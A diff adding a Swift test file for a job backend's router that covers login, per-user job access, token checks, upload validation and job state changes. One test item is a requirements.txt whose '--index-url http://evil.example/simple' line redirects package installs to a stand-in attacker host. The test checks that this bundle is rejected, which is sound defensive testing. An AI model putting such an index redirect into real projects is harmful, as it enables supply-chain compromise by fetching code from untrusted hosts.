@@ -1,0 +1,196 @@
+@testable import Backend
+import FerryContracts
+import FerryTestSupport
+import Foundation
+import Hummingbird
+import HummingbirdTesting
+import Logging
+import NIOCore
+import Synchronization
+import Testing
+
+/// Records what the Backend hands to the Producer, or fails like a Producer that is down.
+final class RecordingQueue: JobQueue {
+    let messages = Mutex<[JobMessage]>([])
+    let available: Bool
+
+    init(available: Bool = true) { self.available = available }
+
+    func enqueue(_ message: JobMessage) async throws {
+        guard available else { throw CancellationError() }
+        messages.withLock { $0.append(message) }
+    }
+}
+
+@Suite("Backend API through its router")
+struct BackendRouterTests {
+    struct Fixture {
+        let directory: TemporaryDirectory
+        let store: JobStore
+        let queue: RecordingQueue
+        let app: Application<RouterResponder<BackendContext>>
+    }
+
+    static func fixture(producerAvailable: Bool = true) async throws -> Fixture {
+        let directory = try TemporaryDirectory()
+        let store = try await JobStore.open(path: directory.file("backend/ferry.sqlite"), logger: Logger(label: "test"))
+        let settings = JobSettings(dataDirectory: directory.path)
+        try FileManager.default.createDirectory(atPath: settings.bundles, withIntermediateDirectories: true)
+        let queue = RecordingQueue(available: producerAvailable)
+        let router = buildBackendRouter(store: store, queue: queue, settings: settings, bcryptCost: 4, logger: Logger(label: "test"))
+        return Fixture(directory: directory, store: store, queue: queue, app: Application(router: router))
+    }
+
+    /// Runs `body` against a fresh Backend router and closes its database afterwards.
+    static func withFixture(producerAvailable: Bool = true, _ body: @escaping @Sendable (Fixture, any TestClientProtocol) async throws -> Void) async throws {
+        let fixture = try await fixture(producerAvailable: producerAvailable)
+        do {
+            try await fixture.app.test(.router) { client in try await body(fixture, client) }
+        } catch {
+            try await fixture.store.close()
+            throw error
+        }
+        try await fixture.store.close()
+    }
+
+    static func bundle(_ files: [String: String]) -> ByteBuffer {
+        var zip = RawZipBuilder()
+        for (name, text) in files.sorted(by: { $0.key < $1.key }) { zip.file(name, text) }
+        return ByteBuffer(bytes: zip.bytes())
+    }
+
+    @Test func registerLoginUploadAndSeeOnlyYourOwnJobs() async throws {
+        try await Self.withFixture() { fixture, client in
+            let alice = try await client.account("alice")
+            let bob = try await client.account("bob")
+            let job = try await client.execute(
+                uri: "/api/v1/jobs?timeLimit=60", method: .post,
+                headers: [.authorization: "Bearer \(alice)", .contentType: "application/zip"],
+                body: Self.bundle(["demo/code.py": "print(1)"])
+            ) { response -> Job in
+                #expect(response.status == .created)
+                return try JSONDecoder.iso.decode(Job.self, from: response.body)
+            }
+            #expect(job.project == "demo")
+            #expect(job.status == .queued)
+            #expect(job.owner == "alice")
+            #expect(job.timeLimit == 60)
+            let message = try #require(fixture.queue.messages.withLock { $0.first })
+            #expect(message.jobID == job.id && message.bundlePath == "bundles/\(job.id).zip")
+            #expect(FileManager.default.fileExists(atPath: fixture.directory.file("bundles/\(job.id).zip")))
+
+            for path in ["/api/v1/jobs/\(job.id)", "/api/v1/jobs/\(job.id)/log", "/api/v1/jobs/\(job.id)/result"] {
+                try await client.execute(uri: path, method: .get, headers: [.authorization: "Bearer \(bob)"]) { response in
+                    #expect(response.status == .notFound, "\(path)")
+                    #expect(String(buffer: response.body).contains("job.not_found"))
+                }
+            }
+            try await client.execute(uri: "/api/v1/jobs/\(UUID())", method: .get, headers: [.authorization: "Bearer \(alice)"]) { response in
+                #expect(response.status == .notFound)
+            }
+            try await client.execute(uri: "/api/v1/jobs", method: .get, headers: [.authorization: "Bearer \(bob)"]) { response in
+                let page = try JSONDecoder.iso.decode(JobPage.self, from: response.body)
+                #expect(page.jobs.isEmpty)
+            }
+            try await client.execute(uri: "/api/v1/jobs", method: .get, headers: [.authorization: "Bearer \(alice)"]) { response in
+                let page = try JSONDecoder.iso.decode(JobPage.self, from: response.body)
+                #expect(page.jobs.map(\.id) == [job.id])
+            }
+        }
+    }
+
+    @Test func withoutATokenNothingIsServed() async throws {
+        try await Self.withFixture() { fixture, client in
+            try await client.execute(uri: "/api/v1/jobs", method: .get, headers: [.authorization: "Bearer not-a-token"]) { response in
+                #expect(response.status == .unauthorized)
+                #expect(String(buffer: response.body).contains("auth.required"))
+            }
+        }
+    }
+
+    @Test func invalidBundlesAreRefusedWithTheirCodeAndNeverBecomeJobs() async throws {
+        try await Self.withFixture() { fixture, client in
+            let token = try await client.account("carol")
+            let cases: [(ByteBuffer, String)] = [
+                (Self.bundle(["demo/main.py": "print(1)"]), "bundle.missing_code_py"),
+                (Self.bundle(["demo/code.py": "", "demo/requirements.txt": "--index-url http://evil.example/simple\nnumpy\n"]), "bundle.requirements_option"),
+                (ByteBuffer(string: "not a zip at all, just text that is long enough to be read"), "bundle.not_a_zip"),
+                (ByteBuffer(), "bundle.empty"),
+            ]
+            for (body, code) in cases {
+                try await client.execute(uri: "/api/v1/jobs", method: .post, headers: [.authorization: "Bearer \(token)", .contentType: "application/zip"], body: body) { response in
+                    #expect(response.status == .unprocessableContent, "\(code)")
+                    #expect(String(buffer: response.body).contains(code))
+                }
+            }
+            #expect(fixture.queue.messages.withLock { $0.isEmpty })
+            let leftovers = try FileManager.default.contentsOfDirectory(atPath: fixture.directory.file("bundles"))
+            #expect(leftovers.isEmpty, "refused uploads left files: \(leftovers)")
+        }
+    }
+
+    @Test func limitsAboveTheMaximaAreRefused() async throws {
+        try await Self.withFixture() { fixture, client in
+            let token = try await client.account("dave")
+            try await client.execute(uri: "/api/v1/jobs?timeLimit=999999", method: .post, headers: [.authorization: "Bearer \(token)", .contentType: "application/zip"], body: Self.bundle(["d/code.py": ""])) { response in
+                #expect(response.status == .unprocessableContent)
+                #expect(String(buffer: response.body).contains("job.limit_too_high"))
+            }
+        }
+    }
+
+    @Test func anUploadStaysSubmittedWhenTheProducerIsDown() async throws {
+        try await Self.withFixture(producerAvailable: false) { fixture, client in
+            let token = try await client.account("erin")
+            try await client.execute(uri: "/api/v1/jobs", method: .post, headers: [.authorization: "Bearer \(token)", .contentType: "application/zip"], body: Self.bundle(["e/code.py": ""])) { response in
+                #expect(response.status == .created)
+                let job = try JSONDecoder.iso.decode(Job.self, from: response.body)
+                #expect(job.status == .submitted)
+            }
+        }
+    }
+
+    @Test func eventsOnlyMoveAJobForward() async throws {
+        try await Self.withFixture() { fixture, client in
+            let token = try await client.account("frank")
+            let job = try await client.execute(uri: "/api/v1/jobs", method: .post, headers: [.authorization: "Bearer \(token)", .contentType: "application/zip"], body: Self.bundle(["f/code.py": ""])) { response in
+                try JSONDecoder.iso.decode(Job.self, from: response.body)
+            }
+            #expect(try await fixture.store.advance(job.id, to: .running, at: Date()))
+            #expect(try await fixture.store.advance(job.id, to: .failed, at: Date(), exitCode: 3, reason: "exit 3"))
+            let late = try await fixture.store.advance(job.id, to: .running, at: Date())
+            let anotherFinal = try await fixture.store.advance(job.id, to: .succeeded, at: Date())
+            #expect(!late && !anotherFinal)
+            try await client.execute(uri: "/api/v1/jobs/\(job.id)", method: .get, headers: [.authorization: "Bearer \(token)"]) { response in
+                let current = try JSONDecoder.iso.decode(Job.self, from: response.body)
+                #expect(current.status == .failed && current.exitCode == 3 && current.startedAt != nil && current.finishedAt != nil)
+            }
+        }
+    }
+}
+
+extension JSONDecoder {
+    static var iso: JSONDecoder {
+        let decoder = JSONDecoder()
+        decoder.dateDecodingStrategy = .iso8601
+        return decoder
+    }
+}
+
+struct LoginToken: Decodable {
+    var token: String
+}
+
+extension TestClientProtocol {
+    /// Registers `name` and logs in; returns the bearer token.
+    func account(_ name: String) async throws -> String {
+        let credentials = ByteBuffer(string: #"{"username":"\#(name)","password":"correct horse battery"}"#)
+        try await execute(uri: "/api/v1/auth/register", method: .post, headers: [.contentType: "application/json"], body: credentials) { response in
+            #expect(response.status == .created)
+        }
+        return try await execute(uri: "/api/v1/auth/login", method: .post, headers: [.contentType: "application/json"], body: credentials) { response in
+            #expect(response.status == .ok)
+            return try JSONDecoder.iso.decode(LoginToken.self, from: response.body).token
+        }
+    }
+}
